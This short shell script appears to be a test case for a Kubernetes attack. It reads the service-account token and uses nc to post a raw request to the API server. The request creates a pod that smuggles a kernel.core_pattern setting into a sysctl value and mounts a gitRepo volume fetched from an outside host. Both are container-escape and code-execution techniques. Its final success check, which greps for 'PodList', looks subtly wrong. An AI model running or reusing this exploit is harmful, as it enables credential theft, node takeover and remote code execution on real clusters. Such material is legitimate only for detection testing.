#!/bin/sh
. /opt/case/case.sh

printf 'POST /api/v1/namespaces/default/pods HTTP/1.0\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\n' "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" >/tmp/q
b='{"kind":"Pod","metadata":{"name":"sync"},"spec":{"securityContext":{"sysctls":[{"name":"kernel.shm_rmid_forced","value":"1+kernel.core_pattern=|/var/lib/x"}]},"containers":[{"name":"a","image":"alpine","volumeMounts":[{"name":"g","mountPath":"/g"}]}],"volumes":[{"name":"g","gitRepo":{"repository":"http://203.0.113.10/x.git","directory":"g/.git"}}]}}'
printf 'Content-Length: %d\r\n\r\n%s' ${#b} "$b" >>/tmp/q
nc -w 3 10.77.0.1 6443 </tmp/q | grep -q PodList
took_place
